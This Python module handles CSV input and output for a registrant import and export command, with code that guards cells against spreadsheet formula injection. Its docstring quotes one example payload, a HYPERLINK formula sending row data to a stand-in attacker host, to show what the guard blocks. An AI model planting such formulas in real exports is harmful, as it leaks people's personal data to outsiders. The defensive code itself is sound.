"""CSV in and out: the people file of ``registrants import``, its results file, roster export.

People files are read by the library's ``gototraining.read_people_csv`` (forgiving about
header spellings, BOMs and blank lines; every row checked with the rules the facade applies
before sending, and line numbers as an editor shows them); ``read_people`` adds what the
command needs on top: one file, all its rows, a usage error for a file that is unusable.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or tab / CR) as a
formula, and names come from strangers: ``=HYPERLINK("https://evil.example/?d="&B2,"Open")`` as
a given name would leak the row to anyone who opens the export (OWASP "CSV injection"). Every
cell this module writes therefore goes through ``guard_cell``, which prefixes such a cell
with ``'`` (spreadsheets then show it as text), unless the caller asks for raw cells. The
guard is reversible, and ``read_people_csv`` undoes it (``tests/cli/test_csvio.py`` holds the
two to each other), so an exported roster can be imported again unchanged. Where the bytes go (a file replaced
atomically, a pipe, stdout) is ``outputs``' business.

A lone surrogate in a value (a name sent as ``"Eve\\ud800"``: JSON allows the escape, but it is
no character and UTF-8 cannot hold it) is written as U+FFFD REPLACEMENT CHARACTER, the rest of
the value and every other row as they are.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import IO

import attrs

from gototraining import PersonRow, Registrant, ValidationError, read_people_csv

__all__ = [
    "FORMULA_TRIGGERS",
    "RESULT_FIELDS",
    "ROSTER_FIELDS",
    "CsvWriter",
    "PeopleFile",
    "Result",
    "csv_bytes",
    "guard_cell",
    "read_people",
    "roster_rows",
]

#: First characters that make a spreadsheet evaluate a cell (OWASP CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: Lone surrogates: no character, not encodable in UTF-8.
_SURROGATE = re.compile("[\ud800-\udfff]")
#: What a lone surrogate is written as.
REPLACEMENT = "\ufffd"


def encodable(value: str) -> str:
    """``value`` with every lone surrogate replaced by U+FFFD (``REPLACEMENT``)."""
    return _SURROGATE.sub(REPLACEMENT, value)


def guard_cell(value: str) -> str:
    """``value``, prefixed with ``'`` if a spreadsheet would run it as a formula.

    Values that already start with quotes before a trigger get one more, so that
    reading it back (``read_people_csv``) restores every value exactly.
    """
    return "'" + value if value.lstrip("'").startswith(FORMULA_TRIGGERS) else value


class CsvWriter:
    """``csv.writer`` with ``\\n`` line ends that also quotes a cell holding a bare CR
    (``csv`` quotes only the characters of its line terminator; an unquoted CR would end the
    record for every reader), and guards cells against formulas unless ``raw``."""

    def __init__(self, stream: IO[str], *, raw: bool = False) -> None:
        self.raw = raw
        self._minimal = csv.writer(stream, lineterminator="\n")
        self._quote_all = csv.writer(stream, lineterminator="\n", quoting=csv.QUOTE_ALL)

    def writerow(self, row: Sequence[str], *, header: bool = False) -> None:
        """Write one record (a ``header`` is never guarded)."""
        cells = [encodable(cell) for cell in row]
        if not (self.raw or header):
            cells = [guard_cell(cell) for cell in cells]
        if any("\r" in cell for cell in cells):
            self._quote_all.writerow(cells)
        else:
            self._minimal.writerow(cells)


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[str]], *, raw: bool = False) -> bytes:
    """A whole CSV document (UTF-8, ``\\n`` line ends); cells guarded unless ``raw``."""
    buffer = io.StringIO(newline="")
    writer = CsvWriter(buffer, raw=raw)
    writer.writerow(header, header=True)
    for row in rows:
        writer.writerow(row)
    return buffer.getvalue().encode("utf-8")


@attrs.frozen
class PeopleFile:
    """A people file read whole: every row, in file order (``read_people_csv``'s)."""

    rows: tuple[PersonRow, ...]

    @property
    def bad_rows(self) -> list[PersonRow]:
        """The rows with problems."""
        return [row for row in self.rows if row.problems]


def bad_row_text(row: PersonRow) -> str:
    """``line 7: email: expected an email address, got 'x'; given_name: ...``."""
    return f"line {row.line}: " + "; ".join(row.problems)


def read_people(name: str, source: IO[str] | None = None) -> PeopleFile:
    """Read every row of the people file ``name`` (or of ``source``, an open text stream
    that ``name`` names in messages).

    Raises:
        ValueError: the file as a whole is unusable (missing columns, not CSV, no rows);
            the message is meant for the user.
        OSError: it cannot be read.
    """
    try:
        rows = tuple(read_people_csv(name if source is None else source))
    except ValidationError as exc:
        raise ValueError(str(exc)) from None
    if not rows:
        raise ValueError(f"{name}: no people after the header")
    return PeopleFile(rows)


#: Columns of the results file of ``registrants import``.
RESULT_FIELDS = (
    "line",
    "email",
    "given_name",
    "surname",
    "status",
    "registrant_key",
    "join_url",
    "error",
)


@attrs.define
class Result:
    """The outcome for one row of an import.

    ``status`` is ``pending`` (not attempted yet), ``registered`` (by this run),
    ``already_registered`` (by an earlier run or someone else), ``failed`` or ``invalid``
    (not sent: the row has problems, ``--skip-invalid``).
    """

    row: PersonRow
    status: str = "pending"
    registrant_key: str = ""
    join_url: str = ""
    error: str = ""

    @property
    def line(self) -> int:
        return self.row.line

    @property
    def email(self) -> str:
        return self.row.person.email

    def cells(self) -> list[str]:
        """The results-file row."""
        p = self.row.person
        return [
            str(self.row.line),
            p.email,
            p.given_name,
            p.surname,
            self.status,
            self.registrant_key,
            self.join_url,
            self.error,
        ]


#: Columns of ``registrants export``.
ROSTER_FIELDS = (
    "registrant_key",
    "email",
    "given_name",
    "surname",
    "status",
    "registration_date",
    "join_url",
    "confirmation_url",
)


def roster_rows(registrants: Sequence[Registrant]) -> list[list[str]]:
    """The rows of ``registrants export`` (columns ``ROSTER_FIELDS``), by surname; a field
    the API's answer lacked is an empty cell."""
    from .output import fmt_iso, text_of

    def row(r: Registrant) -> list[str]:
        registered = getattr(r, "registration_date", None)
        return [
            r.registrant_key,
            text_of(r, "email"),
            text_of(r, "given_name"),
            text_of(r, "surname"),
            r.raw_status or "",
            "" if registered is None else fmt_iso(registered),
            text_of(r, "join_url"),
            text_of(r, "confirmation_url"),
        ]

    def by_name(r: Registrant) -> tuple[str, str]:
        return text_of(r, "surname").casefold(), text_of(r, "given_name").casefold()

    return [row(r) for r in sorted(registrants, key=by_name)]
